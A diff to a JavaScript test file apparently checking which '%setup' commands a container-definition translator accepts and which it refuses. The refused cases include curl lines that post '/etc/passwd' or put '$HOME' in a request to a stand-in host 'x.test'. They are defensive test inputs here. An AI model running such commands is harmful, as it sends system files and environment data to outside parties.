@@ -135,6 +135,11 @@ test('%setup that only creates directories and copies below the root runs in the
     `install -d -m 0755 ${root}/x\n chmod -R a+rx ${root}/x\n rm -rf ${root}/x\n ls -la .`,
     `echo "some text" >> ${root}/etc/file`,
     `D=/opt/tool\n mkdir -p ${root}$D`,
+    `cd src\n /bin/cp x ${root}/y\n cd ${root}\n mkdir -p made\n wget -q https://x.test/a.gz`,
+    `install -m 755 run.sh ${root}/usr/bin/run\n install -D x ${root}/y`,
+    `ln -s /opt/tool/bin/x ${root}/usr/bin/x\n ln -sf ../y ${root}/z`,
+    `curl -fsSL -o ${root}/x https://x.test/x\n curl https://x.test/ > ${root}/y`,
+    `V=1\n wget --output-document=${root}/x https://x.test/$V.gz\n wget -P ${root} http://x.test/`,
   ]) {
     const { dockerfile } = translateDefinition(`${header}%setup\n ${setup}\n`);
     assert.match(dockerfile, /target=\/dev\/sluice-context \[.*"\/dev\/sluice\/setup"\]/, setup);
@@ -172,6 +177,15 @@ test('%setup that does anything else is refused with its line', () => {
     `f() { id; }`,
     `chmod 755 /etc`,
     `export X=$(id)`,
+    'cd /etc',
+    'cd',
+    `ln -s x`,
+    `ln ${root}/x y`,
+    `install -m 755 x /usr/bin/x`,
+    `curl -d @/etc/passwd https://x.test/ -o ${root}/x`,
+    `curl --data=/etc/passwd https://x.test/ -o ${root}/x`,
+    `curl https://x.test/$HOME -o ${root}/x`,
+    `curl https://x.test/x -o x`,
   ]) {
     assert.throws(
       () => translateDefinition(`${header}%setup\n mkdir ${root}/y\n ${setup}\n`),
@@ -273,7 +287,7 @@ test('a Conda file that comes with a definition file is copied from the build co
     { repository: 'registry.example.com/builds', cache: undefined, frozen: {} },
   );
   assert.ok(origin.kind === 'recipe');
-  assert.match(origin.dockerfile, /^COPY \["conda\.yml","\/tmp\/conda\.yml"\]$/m);
+  assert.match(origin.dockerfile, /"conda\.yml","\/tmp\/conda\.yml"\]$/m);
   assert.deepEqual(origin.files, { 'conda.yml': 'dependencies: [bwa]\n' });
 });
 
